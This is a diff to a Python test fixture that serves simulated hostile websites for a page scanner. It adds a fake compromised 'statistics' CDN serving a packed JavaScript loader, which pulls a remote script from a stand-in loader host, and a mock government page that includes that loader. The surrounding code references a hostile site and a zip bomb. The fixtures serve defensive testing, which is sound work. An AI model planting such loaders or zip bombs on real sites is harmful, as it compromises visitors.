@@ -408,6 +408,21 @@ def make_site_hostile(stop: threading.Event) -> Handler:
     return site_hostile
 
 
+def site_stat_cdn(req: Request) -> Response:
+    """A "statistics" script host (e.g. a compromised CDN) serving a packed loader."""
+    js = pack_js(f"document.write('<script src=\"http://{LOADER_HOST_2}/t.js\"></scr'+'ipt>');")
+    return Response(body=js.encode(), content_type="application/javascript")
+
+
+def make_site_external_loader(sites: TestSites) -> Handler:
+    """A page that includes the loader from another host (the ``stat_cdn`` site)."""
+    def site_external_loader(req: Request) -> Response:
+        src = sites.url("stat_cdn", "/js/stat.js")
+        return html_page("某某县教育局", _gov_body("某某县教育局"), head=f"<script src='{src}'></script>")
+
+    return site_external_loader
+
+
 # Ground truth: which rule ids each site must (and, for look-alikes, must not) produce.
 EXPECTED: dict[str, set[str]] = {
     "title_spider": {"inject.title_spider"},
@@ -453,7 +468,7 @@ SITES: dict[str, Handler] = {
 
 
 # ------------------------------------------------------------------------------------ server
-def _make_handler(site: Handler) -> type[BaseHTTPRequestHandler]:
+def _make_handler(site: Handler, hits: dict[str, int], name: str) -> type[BaseHTTPRequestHandler]:
     class _H(BaseHTTPRequestHandler):
         protocol_version = "HTTP/1.1"
         wbufsize = 1 << 16  # headers and body leave in one write (no delayed-ACK stalls on keep-alive)
@@ -466,6 +481,7 @@ def _make_handler(site: Handler) -> type[BaseHTTPRequestHandler]:
 
         def do_GET(self) -> None:  # noqa: N802 - stdlib name
             parts = urlsplit(self.path)
+            hits[name] = hits.get(name, 0) + 1  # tests check which hosts were contacted
             req = Request(parts.path or "/", parse_qs(parts.query), self.headers.get("User-Agent", ""),
                           self.headers.get("Referer", ""))
             if req.path == "/robots.txt" and site not in (site_parasite, site_gambling):
@@ -507,16 +523,20 @@ class TestSites:
 
     __test__ = False  # not a pytest class
 
-    def __init__(self, names: Iterable[str] | None = None, *, hostile: bool = True) -> None:
+    def __init__(self, names: Iterable[str] | None = None, *, hostile: bool = True, external: bool = False) -> None:
         self.stop = threading.Event()
-        handlers = {n: SITES[n] for n in (names or SITES)}
+        handlers = {n: SITES[n] for n in (SITES if names is None else names)}
+        self.hits: dict[str, int] = {}
+        if external:  # a page whose loader lives on another host (tests --follow-host)
+            handlers["stat_cdn"] = site_stat_cdn
+            handlers["external_loader"] = make_site_external_loader(self)
         if hostile:
             handlers["hostile"] = make_site_hostile(self.stop)
             threading.Thread(target=_zip_bomb, daemon=True).start()  # build it before it is asked for
         self.servers: dict[str, _Server] = {}
         self.threads: list[threading.Thread] = []
         for name, handler in handlers.items():
-            server = _Server(("127.0.0.1", 0), _make_handler(handler))
+            server = _Server(("127.0.0.1", 0), _make_handler(handler, self.hits, name))
             self.servers[name] = server
             th = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True,
                                   name=f"testsite-{name}")
